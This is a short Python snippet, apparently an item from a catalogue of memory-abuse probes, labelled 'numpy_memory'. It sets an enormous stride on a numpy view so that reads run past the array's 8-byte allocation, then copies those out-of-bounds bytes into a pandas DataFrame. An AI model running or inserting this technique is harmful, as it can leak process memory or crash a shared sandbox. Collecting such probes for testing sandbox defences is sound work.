# class: numpy_memory
# technique: view.strides = (huge,) on an existing view to step outside its allocation
# goal: memory
import numpy as np
import pandas as pd

arr = np.zeros(8, dtype=np.uint8)
view = arr[:]
view.strides = (1 << 16,)
df = pd.DataFrame({"byte": view.copy()})
